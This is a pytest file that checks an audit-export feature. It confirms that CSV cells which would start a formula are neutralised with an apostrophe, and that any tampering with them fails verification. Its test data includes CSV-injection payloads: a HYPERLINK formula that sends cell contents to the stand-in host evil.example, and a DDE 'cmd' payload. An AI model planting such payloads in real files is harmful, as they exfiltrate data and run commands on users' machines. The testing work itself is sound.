"""A spreadsheet user opening an audit export: no cell starts a formula, and both verifiers still
accept it (the hash covers the stored text; the CSV cell carries it behind a leading apostrophe)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from desktop_app.services import audit_export
from desktop_app.services.runtime import Runtime
from tests.security.test_audit_export import ALL_TIME, _standalone, both_fail, run_standalone

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tTAB=1", "\r=CR", "'already quoted", "''two", "plain = fine", "", "=", "'"]  # fmt: skip
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _hostile_export(runtime: Runtime, folder: Path) -> Path:
    assert runtime.store is not None
    for text in HOSTILE:
        runtime.store.audit("review", detail=text)
    runtime.store.audit("=cmd", detail="action and actor cells too")
    audit_export.export_audit(runtime, ALL_TIME, folder)
    return folder


def test_no_cell_starts_a_formula_and_both_verifiers_accept(runtime: Runtime, tmp_path: Path) -> None:
    folder = _hostile_export(runtime, tmp_path / "export")
    rows = list(csv.reader(io.StringIO((folder / "audit.csv").read_text("utf-8"), newline="")))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_START), row
    details = [row[6] for row in rows[1:]]
    assert "'" + HOSTILE[0] in details  # shown as text: the apostrophe Excel and LibreOffice hide
    assert "'" + "'already quoted" in details  # an apostrophe of its own is kept apart from the added one
    assert "plain = fine" in details  # nothing else changes
    assert audit_export.verify_export(folder).ok, audit_export.verify_export(folder).problem
    result = run_standalone(folder)
    assert result.returncode == 0, result.stdout + result.stderr


@pytest.mark.parametrize(
    ("before", "after"), [("'=", "="), ("''already", "'already"), ("plain = fine", "'plain = fine")]
)
def test_adding_or_removing_the_apostrophe_fails_both(
    runtime: Runtime, tmp_path: Path, before: str, after: str
) -> None:
    """The neutralised form is the only one accepted; recomputing the file hash does not help."""
    folder = _hostile_export(runtime, tmp_path / "export")
    csv_path, manifest_path = folder / "audit.csv", folder / "manifest.json"
    data = csv_path.read_bytes().replace(before.encode(), after.encode(), 1)
    assert data != csv_path.read_bytes()
    csv_path.write_bytes(data)
    manifest = json.loads(manifest_path.read_text("utf-8"))
    manifest["files"]["audit.csv"] = {"sha256": __import__("hashlib").sha256(data).hexdigest(), "bytes": len(data)}
    manifest["seal"] = audit_export.seal_of(manifest)
    manifest_path.write_bytes(audit_export.canonical(manifest))
    assert both_fail(folder, _standalone())
